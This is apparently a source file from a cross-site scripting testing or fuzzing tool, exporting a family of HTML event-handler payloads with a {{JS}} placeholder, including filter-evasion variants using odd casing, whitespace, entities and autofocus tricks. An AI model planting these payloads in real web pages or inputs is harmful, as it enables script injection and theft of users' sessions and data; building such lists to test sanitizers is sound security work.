import type { Family } from '../payloads.ts'

/** Events that any element can be given a handler for. */
const HANDLERS = (
  'abort animationcancel animationend animationiteration animationstart auxclick beforecopy ' +
  'beforecut beforeinput beforematch beforepaste beforetoggle blur cancel canplay change click ' +
  'close contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend ' +
  'dragenter dragleave dragover dragstart drop error focus focusin focusout formdata fullscreenchange ' +
  'gotpointercapture input invalid keydown keypress keyup load lostpointercapture message mousedown ' +
  'mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel paste pointercancel ' +
  'pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate ' +
  'pointerup reset resize scroll scrollend search securitypolicyviolation select selectionchange ' +
  'selectstart slotchange submit toggle touchend touchstart transitionend transitionrun ' +
  'transitionstart unhandledrejection webkitanimationstart wheel'
).split(' ')

export const eventPayloads: Family = {
  handler: HANDLERS.map((name) => `<div tabindex="0" on${name}="{{JS}}">text</div>`),
  event: [
    '<img src=x onerror={{JS}}>',
    '<img src=x oNeRrOr={{JS}}>',
    '<img src="x"onerror="{{JS}}">',
    '<img/src=x/onerror={{JS}}>',
    '<img\tsrc=x\tonerror={{JS}}>',
    '<img\u000csrc=x\u000conerror={{JS}}>',
    '<img src=x onerror\n=\n"{{JS}}">',
    '<img src=x onerror="&#99;onsole.log(`{{JS}}`);{{JS}}">',
    '<img src=`x` onerror=`a` onerror={{JS}}>',
    '<img """><img src=x onerror={{JS}}>">',
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="{{JS}}" onerror="{{JS}}">',
    '<image src=x onerror={{JS}}>',
    '<body onload="{{JS}}">',
    '<body onpageshow="{{JS}}">',
    '<body onhashchange="{{JS}}" onresize="{{JS}}" onfocus="{{JS}}">',
    '<html onmouseover="{{JS}}" onclick="{{JS}}">text',
    '<details open ontoggle="{{JS}}">x</details>',
    '<video src=x onerror="{{JS}}"></video>',
    '<video><source onerror="{{JS}}" src=x></video>',
    '<audio src=x onerror="{{JS}}"></audio>',
    '<input autofocus onfocus="{{JS}}">',
    '<select autofocus onfocus="{{JS}}"><option>x</select>',
    '<textarea autofocus onfocus="{{JS}}"></textarea>',
    '<button autofocus onfocus="{{JS}}">x</button>',
    '<div contenteditable autofocus onfocus="{{JS}}">x</div>',
    '<marquee onstart="{{JS}}">x</marquee>',
    '<marquee loop=1 width=0 onfinish="{{JS}}">x</marquee>',
    '<style onload="{{JS}}">p{}</style>',
    '<link rel=stylesheet href="data:text/css," onload="{{JS}}">',
    '<object data="data:text/html,x" onload="{{JS}}"></object>',
    '<input type=image src=x onerror="{{JS}}">',
    '<style>@keyframes a{to{left:0}}</style><p style="animation-name:a;animation-duration:1ms" onanimationend="{{JS}}">x</p>',
    '<p style="transition:color 1ms" ontransitionend="{{JS}}">x</p>',
    '<dialog open onclose="{{JS}}"><form method=dialog><button>x</button></form></dialog>',
    '<a onclick="{{JS}}" href="#">x</a>',
    '<a href="https://example.com/" onclick="{{JS}}" onmouseover="{{JS}}">x</a>',
    '<keygen autofocus onfocus="{{JS}}">',
    '<isindex action="javascript:{{JS}}" type=image>',
    '<track onerror="{{JS}}" src=x default>',
    '<math onclick="{{JS}}"><mi onmouseover="{{JS}}">x</mi></math>',
    '<xss id=x tabindex=1 onfocus="{{JS}}" autofocus></xss>',
    '<custom-element onconnected="{{JS}}" onclick="{{JS}}">x</custom-element>',
    '<button popovertarget=p>x</button><div popover id=p onbeforetoggle="{{JS}}">y</div>',
    '<table background=x onload="{{JS}}"><td onclick="{{JS}}">x</table>',
  ],
}
